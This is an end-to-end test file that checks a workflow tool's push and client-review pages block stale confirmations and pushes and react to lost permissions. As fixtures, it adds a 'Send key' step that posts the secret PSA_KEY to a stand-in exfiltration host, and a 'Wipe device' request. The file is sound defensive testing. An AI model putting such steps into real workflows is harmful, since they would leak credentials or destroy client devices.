// Pages loaded before someone else changed what they show (found by QA): the client's review page
// after the provider pushed again, and the Push page after a colleague saved the workflow. Neither
// confirms or pushes what it did not show: the review reloads the new push and says so, the Push
// page loads the preflight again and says what changed — in the steps, and in what the push asks.
// And both notice, as the editor does, their workflow deleted, or their user made a viewer or
// removed, while open: they say so and stop offering their actions.
import { randomBytes } from "node:crypto";
import { expect, test, type Browser, type Page } from "@playwright/test";
import { createMember, createProviderOwner } from "./e2e-database";
import { signIn } from "./sign-in";

type Steps = Record<string, unknown>[];
const harmless: Steps = [
  { id: "hook", kind: "webhook", config: {} },
  { id: "calc", kind: "code", name: "Harmless", config: { code: "return 1" } },
];

async function setUp(page: Page, what: string) {
  const tag = randomBytes(3).toString("hex");
  const email = `${what}-${tag}@example.test`;
  await createProviderOwner(`Stale MSP ${tag}`, email, "stale-page-pw-1");
  await signIn(page, email, "stale-page-pw-1");
  const provider = ((await (await page.request.get("/api/v1/workspaces")).json()) as { workspaces: { id: string }[] }).workspaces[0].id;
  const client = await page.request.post(`/api/v1/workspaces/${provider}/clients`, { data: { name: `Northwind ${tag}` } });
  const clientId = ((await client.json()) as { id: string }).id;
  const created = await page.request.post(`/api/v1/workspaces/${provider}/workflows`, { data: { name: `Onboarding ${tag}`, steps: harmless } });
  const source = (await created.json()) as { id: string; name: string; version: number };
  return { provider, clientId, clientName: `Northwind ${tag}`, source };
}

/** Someone else's save: one more step after the ones created. */
async function addStep(page: Page, source: { id: string; name: string; version: number }, step: Record<string, unknown>) {
  const put = await page.request.put(`/api/v1/workflows/${source.id}`, { data: { name: source.name, version: source.version, steps: [...harmless, step] } });
  expect(put.status(), await put.text()).toBe(200);
}

test("confirming a review the provider pushed again since reloads the new push and says nothing was confirmed", async ({ page }) => {
  const { clientId, source } = await setUp(page, "review-race");
  const first = await page.request.post(`/api/v1/workflows/${source.id}/push`, { data: { targetWorkspaceId: clientId } });
  expect(first.status(), await first.text()).toBe(201);
  const copy = ((await first.json()) as { copy: { id: string } }).copy.id;
  await page.goto(`/w/${clientId}/workflows/${copy}/review`);
  await expect(page.getByText(/from version 1/)).toBeVisible();

  await addStep(page, source, { id: "wipe", kind: "http", name: "Wipe device", config: { method: "POST", url: "http://127.0.0.1:9/WIPE" } });
  const again = await page.request.post(`/api/v1/workflows/${source.id}/push`, { data: { targetWorkspaceId: clientId } });
  expect(again.status(), await again.text()).toBe(200);

  await page.getByRole("button", { name: "I reviewed the configuration" }).click();
  await expect(page.getByTestId("review-changed")).toHaveText(
    "Not confirmed: your provider pushed again (version 2) since you opened this page. The checklist below is now the new push's — check the configuration in the editor again, then confirm.",
  );
  await expect(page.getByText(/from version 2/)).toBeVisible();
  await expect(page.getByTestId("review-confirm")).toHaveAttribute("data-done", "false");
  const review = (await (await page.request.get(`/api/v1/workflows/${copy}/review`)).json()) as { complete: boolean };
  expect(review.complete).toBe(false);

  // The new push, now shown, is confirmed by the same button.
  await page.getByRole("button", { name: "I reviewed the configuration" }).click();
  await expect(page.getByTestId("review-confirm")).toHaveAttribute("data-done", "true");
  await expect(page.getByTestId("review-changed")).toHaveCount(0);
});

test("pushing after a colleague saved the workflow pushes nothing, loads the preflight again and says what changed", async ({ page }) => {
  const { provider, clientId, clientName, source } = await setUp(page, "push-race");
  await page.goto(`/w/${provider}/workflows/${source.id}/push`);
  await page.getByLabel("Client workspace").selectOption(clientId);
  await expect(page.getByRole("heading", { name: `Preflight for ${clientName}` })).toBeVisible();
  await expect(page.getByTestId("preflight").getByText("Nothing to resolve.").first()).toBeVisible();

  await addStep(page, source, {
    id: "send",
    kind: "http",
    name: "Send key",
    config: { method: "POST", url: "https://exfil.example.net/collect", headers: [{ name: "x-key", value: "{{ secrets.PSA_KEY }}" }] },
  });
  await page.getByRole("button", { name: `Push to ${clientName}` }).click();

  const changed = page.getByTestId("push-workflow-changed");
  await expect(changed).toContainText("Not pushed: the workflow was saved since this preflight (version 1 → version 2).");
  await expect(changed.getByTestId("push-changed-steps")).toHaveText('Step 3 (HTTP Request "Send key") was added.');
  await expect(changed.getByTestId("push-changed-needs")).toContainText("It now reads secret PSA_KEY.");
  await expect(page.getByTestId("preflight-key-PSA_KEY")).toContainText("created without a value");
  await expect(page.getByText(/^Version 2 ·/)).toBeVisible();
  const none = (await (await page.request.get(`/api/v1/workflows/${source.id}/pushes`)).json()) as { copies: unknown[] };
  expect(none.copies).toEqual([]);

  // Pushed again from the preflight now shown: version 2 goes.
  await page.getByRole("button", { name: `Push to ${clientName}` }).click();
  await expect(page.getByRole("status").filter({ hasText: `Pushed a new copy to ${clientName}` })).toBeVisible();
  const copies = (await (await page.request.get(`/api/v1/workflows/${source.id}/pushes`)).json()) as { copies: { pushedVersion: number }[] };
  expect(copies.copies.map((c) => c.pushedVersion)).toEqual([2]);
});

test("pushing after a colleague renamed and changed a step names the step, though the push asks for nothing new", async ({ page }) => {
  const { provider, clientId, clientName, source } = await setUp(page, "push-rename");
  await page.goto(`/w/${provider}/workflows/${source.id}/push`);
  await page.getByLabel("Client workspace").selectOption(clientId);
  await expect(page.getByRole("heading", { name: `Preflight for ${clientName}` })).toBeVisible();

  const put = await page.request.put(`/api/v1/workflows/${source.id}`, {
    data: { name: source.name, version: source.version, steps: [harmless[0], { id: "calc", kind: "code", name: "Wipe all", config: { code: "return 2" } }] },
  });
  expect(put.status(), await put.text()).toBe(200);
  await page.getByRole("button", { name: `Push to ${clientName}` }).click();

  const changed = page.getByTestId("push-workflow-changed");
  await expect(changed).toContainText("Not pushed: the workflow was saved since this preflight (version 1 → version 2).");
  await expect(changed.getByTestId("push-changed-steps")).toHaveText('Step 2 (Code Execution "Wipe all") was renamed (it was "Harmless") and has new settings.');
  await expect(changed.getByTestId("push-changed-needs")).toHaveText("Nothing new: it reads the same keys and files, with the same notes.");
});

/** An owner and an editor of a provider of their own, each in a browser of their own, a client,
 *  and a workflow the owner created; `member` also names the editor's id for a role change. */
async function twoPeople(browser: Browser, what: string) {
  const tag = randomBytes(3).toString("hex");
  const name = `Lost ${what} ${tag}`;
  await createProviderOwner(name, `owner-${what}-${tag}@example.test`, "lost-pw-1");
  await createMember(name, `tech-${what}-${tag}@example.test`, "lost-pw-2", "editor");
  const [c1, c2] = await Promise.all([browser.newContext(), browser.newContext()]);
  const [owner, tech] = await Promise.all([c1.newPage(), c2.newPage()]);
  await signIn(owner, `owner-${what}-${tag}@example.test`, "lost-pw-1");
  await signIn(tech, `tech-${what}-${tag}@example.test`, "lost-pw-2");
  const provider = ((await (await owner.request.get("/api/v1/workspaces")).json()) as { workspaces: { id: string }[] }).workspaces[0].id;
  const { members } = (await (await owner.request.get(`/api/v1/workspaces/${provider}/members`)).json()) as { members: { userId: string; role: string }[] };
  const techId = members.find((m) => m.role === "editor")!.userId;
  const clientName = `Northwind ${tag}`;
  const clientId = ((await (await owner.request.post(`/api/v1/workspaces/${provider}/clients`, { data: { name: clientName } })).json()) as { id: string }).id;
  const created = await owner.request.post(`/api/v1/workspaces/${provider}/workflows`, { data: { name: `Onboarding ${tag}`, steps: harmless } });
  const source = (await created.json()) as { id: string };
  const close = async () => void (await Promise.all([c1.close(), c2.close()]));
  return { owner, tech, techId, provider, clientId, clientName, source, close };
}

// The pages poll every 10 s as the editor does, and at once when the tab comes back into view.
const backToTab = (page: Page) => page.evaluate(() => window.dispatchEvent(new Event("visibilitychange")));

test("the Push page notices its technician made a viewer, the workflow deleted, and access lost, and stops offering to push", async ({ browser }) => {
  const { owner, tech, techId, provider, clientId, clientName, source, close } = await twoPeople(browser, "push");
  try {
    await tech.goto(`/w/${provider}/workflows/${source.id}/push`);
    await tech.getByLabel("Client workspace").selectOption(clientId);
    const pushButton = tech.getByRole("button", { name: `Push to ${clientName}` });
    await expect(pushButton).toBeEnabled();

    expect((await owner.request.patch(`/api/v1/workspaces/${provider}/members/${techId}`, { data: { role: "viewer" } })).status()).toBe(200);
    await backToTab(tech);
    const lost = tech.getByTestId("page-lost");
    await expect(lost).toHaveText("You can no longer push this workflow: you can now only view this workflow (your role here is viewer).", { timeout: 15_000 });
    await expect(pushButton).toBeDisabled();
    await expect(pushButton).toHaveAccessibleDescription(/your role here is viewer/);
    await expect(tech.getByLabel("Client workspace")).toBeDisabled();

    expect((await owner.request.delete(`/api/v1/workflows/${source.id}`)).ok()).toBe(true);
    await backToTab(tech);
    await expect(lost).toHaveText("You can no longer push this workflow: this workflow was deleted.", { timeout: 15_000 });

    expect((await owner.request.delete(`/api/v1/workspaces/${provider}/members/${techId}`)).ok()).toBe(true);
    await backToTab(tech);
    await expect(lost).toHaveText("You can no longer push this workflow: you no longer have access to this workspace.", { timeout: 15_000 });
    await expect(pushButton).toBeDisabled();
  } finally {
    await close();
  }
});

test("the client review notices its user made a viewer and the copy deleted, and stops offering its actions", async ({ browser }) => {
  const { owner, tech, techId, provider, clientId, source, close } = await twoPeople(browser, "review");
  try {
    const pushed = await owner.request.post(`/api/v1/workflows/${source.id}/push`, { data: { targetWorkspaceId: clientId } });
    expect(pushed.status(), await pushed.text()).toBe(201);
    const copy = ((await pushed.json()) as { copy: { id: string } }).copy.id;
    await tech.goto(`/w/${clientId}/workflows/${copy}/review`);
    const confirm = tech.getByRole("button", { name: "I reviewed the configuration" });
    const goLive = tech.getByRole("button", { name: "Go live" });
    await expect(confirm).toBeEnabled();
    await expect(tech.getByTestId("page-lost")).toHaveCount(0);

    expect((await owner.request.patch(`/api/v1/workspaces/${provider}/members/${techId}`, { data: { role: "viewer" } })).status()).toBe(200);
    await backToTab(tech);
    const lost = tech.getByTestId("page-lost");
    await expect(lost).toHaveText("You can no longer change this review: you can now only view this workflow (your role here is viewer).", { timeout: 15_000 });
    await expect(confirm).toBeDisabled();
    await expect(goLive).toBeDisabled();

    expect((await owner.request.delete(`/api/v1/workflows/${copy}`)).ok()).toBe(true);
    await backToTab(tech);
    await expect(lost).toHaveText("You can no longer change this review: this workflow was deleted.", { timeout: 15_000 });
    await expect(confirm).toBeDisabled();
  } finally {
    await close();
  }
});
